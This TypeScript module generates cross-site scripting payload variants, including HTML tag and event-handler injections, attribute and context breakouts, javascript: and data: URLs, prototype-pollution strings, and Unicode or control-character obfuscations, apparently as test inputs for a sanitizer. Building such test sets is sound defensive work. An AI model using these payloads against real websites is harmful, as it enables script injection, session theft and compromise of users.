/** One way in which a text becomes a script where it is taken for something else; `call` is what it would run. */
export type Family = { readonly name: string; readonly make: (call: string) => string };

const family = (name: string, make: Family['make']): Family => ({ name, make });

/** Text that is taken for markup. */
const markup: readonly Family[] = [
  family('script', (call) => `<script>${call}</script>`),
  family('img', (call) => `<img src=x: onerror=${call}>`),
  family('svg', (call) => `<svg onload=${call}>`),
  family('svg script', (call) => `<svg><script>${call}</script></svg>`),
  family('details', (call) => `<details open ontoggle=${call}>`),
  family('autofocus', (call) => `<input autofocus onfocus=${call}>`),
  family('style', (call) => `<style onload=${call}></style>`),
  family(
    'animation',
    (call) => `<style>@keyframes q{}</style><b style=animation:q onanimationstart=${call}>`,
  ),
  family('srcdoc', (call) => `<iframe srcdoc="<script>${call}</script>"></iframe>`),
  family('script frame', (call) => `<iframe src="javascript:${call}"></iframe>`),
  family('data frame', (call) => `<iframe src="data:text/html,<script>${call}</script>"></iframe>`),
  family('object', (call) => `<object data="data:text/html,<script>${call}</script>"></object>`),
  family('video', (call) => `<video><source onerror=${call} src=x:></video>`),
  family('refresh', (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`),
  family('math', (call) => `<math><mtext><style></style><img src=x: onerror=${call}></mtext></math>`),
  family('noscript', (call) => `<noscript><p title="</noscript><img src=x: onerror=${call}>">`),
  family('custom element', (call) => `<x-y tabindex=0 autofocus onfocus=${call}>`),
  family(
    'clobber',
    (call) => `<form id=throughline name=__proto__><img name=body src=x: onerror=${call}></form>`,
  ),
];

/** Text that ends what it stands in. */
const breakers: readonly Family[] = [
  family('double quote', (call) => `"><img src=x: onerror=${call}>`),
  family('single quote', (call) => `'><svg onload=${call}>`),
  family('attribute', (call) => `" autofocus tabindex=0 onfocus=${call} x="`),
  family('element', (call) => `</textarea></title></style></script>--><img src=x: onerror=${call}>`),
  family('cdata', (call) => `]]></text><svg onload=${call}>`),
  family('script text', (call) => `';${call}//`),
  family('json', (call) => `"};${call};{"a":"`),
  family('template', (call) => `\${${call}}{{constructor.constructor('${call}')()}}<%=${call}%>`),
  family('css', (call) => `;}*{background:url(javascript:${call});width:expression(${call})}`),
  family('entities', (call) => `&lt;img src=x: onerror=${call}&gt;&#60;svg onload=${call}&#62;`),
];

/** Text that is taken for an address, or for a notation that makes links and pictures. */
const addresses: readonly Family[] = [
  family('script address', (call) => `javascript:${call}`),
  family('odd script address', (call) => `jAvAsCrIpT&colon;${call}//javascript:${call}`),
  family('data address', (call) => `data:text/html,<script>${call}</script>`),
  family('vbscript', (call) => `vbscript:${call}`),
  family('markdown', (call) => `[a](javascript:${call})![a](x"onerror="${call})`),
  family('autolink', (call) => `<javascript:${call}> www.a.b"onmouseover="${call}`),
  family('mermaid', (call) => `A["<img src=x: onerror=${call}>"];click A href "javascript:${call}"`),
  family('svg link', (call) => `<svg><a xlink:href="javascript:${call}"><text>a</text></a></svg>`),
  family('base', (call) => `<a href="javascript:${call}" ping="javascript:${call}">a</a>`),
  family('prototype', (call) => `{"__proto__":{"innerHTML":"<img src=x: onerror=${call}>"}}`),
  family('key names', (call) => `__proto__ constructor prototype ${call}`),
];

/** Text with what a reader does not see. */
const unseen: readonly Family[] = [
  family('zero width', (call) => `<\u200Bscript>${call}</script>\uFEFF<img src=x: onerror=${call}>`),
  family('full width', (call) => `\uFF1Cscript\uFF1E${call}\uFF1C/script\uFF1E`),
];

/** The same with control characters, which a person's name may not have. */
const controls: readonly Family[] = [
  family('nul', (call) => `<scr\0ipt>${call}</scr\0ipt><img src=x: one\0rror=${call}>`),
  family('right to left', (call) => `\u202E<img src=x: onerror=${call}>\u2066<svg onload=${call}>\u2069`),
  family('line ends', (call) => `java\tscr\nipt:${call}\u2028${call}\u2029`),
];

export const lineFamilies: readonly Family[] = [...markup, ...breakers, ...addresses, ...unseen];
export const families: readonly Family[] = [...lineFamilies, ...controls];
